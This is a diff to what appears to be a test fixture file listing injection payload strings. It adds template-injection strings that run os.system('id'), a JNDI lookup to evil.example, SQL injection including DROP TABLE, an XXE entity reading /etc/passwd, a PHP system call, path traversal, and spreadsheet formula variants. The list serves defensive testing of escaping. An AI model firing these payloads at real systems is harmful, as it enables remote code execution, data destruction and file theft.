@@ -1,4 +1,4 @@
-"""Text that runs where a page, a script, a style, a template or a spreadsheet takes it as its own.
+"""Text that runs where a page, a script, a template, a query or a spreadsheet takes it as its own.
 
 Each sets ``window.pwned`` (or opens a dialog, or asks another host) where it is run.
 """
@@ -74,6 +74,30 @@ PAYLOADS = (
     "*/window.pwned=1/*",
     "__proto__",
     "constructor",
+    # templates that end ours and begin theirs, in every spelling
+    "x{%- endraw -%}{{ cycler.__init__.__globals__.os.system('id') }}{%- raw -%}",
+    "{%endraw%}{{7*'7'}}{%raw%}",
+    "{%+ endraw +%}{{ 6*7 }}{%+ raw +%}",
+    "{%\tendraw\t%}{{ self.__init__ }}{%\traw\t%}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "<%= 7*7 %><% system('id') %>",
+    "#{7*7} *{7*7} @(7*7) [[${7*7}]]",
+    "${jndi:ldap://evil.example/x}",
+    "{0.__class__} {x!r} %s %(x)s %n",
+    # what sets paper, maps and tables
+    "#eval(\"1\") #read(\"/etc/passwd\") #import \"@preview/x\"",
+    "$x^2$ $\\frac{1}{0}$ \\input{/etc/passwd}",
+    "[% env('HOME') %] [%6*7%] [[%",
+    "\" OR 1=1 -- \" = '",
+    "'; DROP TABLE parks; --",
+    "\\'; SELECT pg_sleep(9); $$ --",
+    "a|layername=b|subset=1=1",
+    # markup of data, terminals and paths
+    "]]></x><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "--><?php system('id') ?>",
+    "[/bold][link=//evil.example]x[/link]",
+    "../../../etc/passwd",
+    "C:\\x\\..\\y",
     # entities and characters
     "&lt;img src=x onerror=window.pwned=1&gt;",
     "&#60;script&#62;window.pwned=1&#60;/script&#62;",
@@ -90,4 +114,10 @@ PAYLOADS = (
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    "＋1＋cmd",
+    "－1＋cmd",
+    "＠SUM(1)",
+    "'=1+1",
 )  # fmt: skip
